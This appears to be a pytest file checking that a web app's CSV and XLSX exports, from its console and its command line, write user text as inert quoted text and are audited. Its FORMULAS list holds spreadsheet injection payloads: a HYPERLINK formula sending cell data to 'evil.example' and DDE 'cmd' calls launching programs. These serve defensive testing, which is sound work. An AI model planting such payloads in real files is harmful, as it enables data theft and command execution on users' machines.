"""Exports never carry a live formula: text a person typed that a spreadsheet would run is written as text.

Every CSV and XLSX export is checked as a person gets it: the bytes downloaded from the console,
and the file `homeward export …` writes, redacted or not. The command-line exports are in the
audit log, with the operating-system user who ran them.
"""

from __future__ import annotations

import asyncio
import csv
import getpass
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from bot.app import Homeward
from bot.cli import main
from bot.config import Settings
from db.models import AuditEntry
from tests.console_support import (
    add_cohort,
    add_followup,
    add_sign_up,
    add_staff,
    client,
    person_with_transcript,
    sign_in,
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Kliko")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
STARTS = ("=", "+", "-", "@", "\t", "\r")


async def _planted(app: Homeward) -> int:
    """A transcript, a follow-up answer and a youth sign-up, each holding text that reads as a formula."""
    cid = await person_with_transcript(app, municipality="Prizren", texts=FORMULAS, name="Arta")
    await add_followup(
        app, cid, 1, "answered", scores={"score_composite": 0.5}, values={"household_size": 4, "comment": FORMULAS[0]}
    )
    programme, cohort = await add_cohort(app)
    await add_sign_up(app, cid, programme, cohort, "confirmed", full_name=FORMULAS[0])
    return cid


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row]


def _check_csv(data: bytes, expected: list[str]) -> None:
    cells = _csv_cells(data)
    assert not [c for c in cells if c.startswith(STARTS)], "a cell would run as a formula"
    for text in expected:
        assert "'" + text in cells, text


def _check_xlsx(data: bytes, expected: list[str], tmp_path: Path) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in s or b"<f " in s for s in sheets), "a cell is stored as a formula"
    (tmp_path / "check.xlsx").write_bytes(data)
    sheet = load_workbook(tmp_path / "check.xlsx").active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # XML reads a carriage return back as a line feed; the cell is text all the same.
    planted = {text.replace("\r", "\n") for text in FORMULAS}
    found = {c.value: c for c in cells if c.value in planted}
    for text in expected:
        cell = found.get(text.replace("\r", "\n"))
        assert cell is not None and cell.data_type == "s" and cell.quotePrefix, text


def _check(fmt: str, data: bytes, expected: list[str], tmp_path: Path) -> None:
    if fmt == "csv":
        _check_csv(data, expected)
    else:
        _check_xlsx(data, expected, tmp_path)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_console_exports_write_formulas_as_text(homeward: Homeward, tmp_path: Path, fmt: str) -> None:
    cid = await _planted(homeward)
    await add_staff(homeward, "ada", "admin")
    downloads = {
        f"/exports/transcripts?format={fmt}": FORMULAS,
        f"/conversations/{cid}/export?format={fmt}": FORMULAS,
        f"/followups/export?format={fmt}": [FORMULAS[0]],
        f"/followups/export?format={fmt}&redacted=1": [FORMULAS[0]],
        f"/youth/export?format={fmt}": [FORMULAS[0]],
    }
    async with client(homeward) as http:
        await sign_in(http, "ada")
        for url, expected in downloads.items():
            response = await http.get(url)
            assert response.status_code == 200, url
            assert "attachment" in response.headers["content-disposition"]
            _check(fmt, response.content, expected, tmp_path)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_command_line_exports_write_formulas_as_text_and_are_audited(
    homeward: Homeward, settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str
) -> None:
    await _planted(homeward)
    monkeypatch.setenv("HOMEWARD_DATABASE_URL", settings.database_url)
    monkeypatch.setenv("HOMEWARD_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("HOMEWARD_SECRET_KEY", settings.secret_key or "")
    runs = [
        (["transcripts"], FORMULAS),
        (["transcripts", "--redact"], FORMULAS[1:]),  # the first holds a link, masked by redaction
        (["followups"], [FORMULAS[0]]),
        (["followups", "--redact"], [FORMULAS[0]]),
        (["signups"], [FORMULAS[0]]),
        (["signups", "--redact"], []),  # the name column is masked
    ]
    for n, (args, expected) in enumerate(runs):
        out = tmp_path / f"export-{n}.{fmt}"
        argv = ["export", args[0], "--format", fmt, "--output", str(out), *args[1:]]
        assert await asyncio.to_thread(main, argv) == 0, argv
        _check(fmt, out.read_bytes(), expected, tmp_path)
    redacted_signups = tmp_path / f"export-{len(runs) - 1}.{fmt}"
    names = [c.value for c in load_workbook(redacted_signups).active["N"]] if fmt == "xlsx" else None
    if names is None:
        rows = list(csv.reader(io.StringIO(redacted_signups.read_text(encoding="utf-8"), newline="")))
        names = [row[rows[0].index("full_name")] for row in rows]
    assert names == ["full_name", "[name]"]
    async with homeward.db.sessions() as session:
        exports = select(AuditEntry).where(AuditEntry.action.like("export.%")).order_by(AuditEntry.id)
        entries = (await session.execute(exports)).scalars().all()
    assert [e.action for e in entries] == [f"export.{args[0]}" for args, _ in runs]
    assert {e.actor for e in entries} == {f"cli:{getpass.getuser()}"}
    assert [(e.detail or {}).get("redacted") for e in entries] == [False, True, False, True, False, True]
    assert all((e.detail or {}).get("format") == fmt and (e.detail or {}).get("records", 0) >= 1 for e in entries)
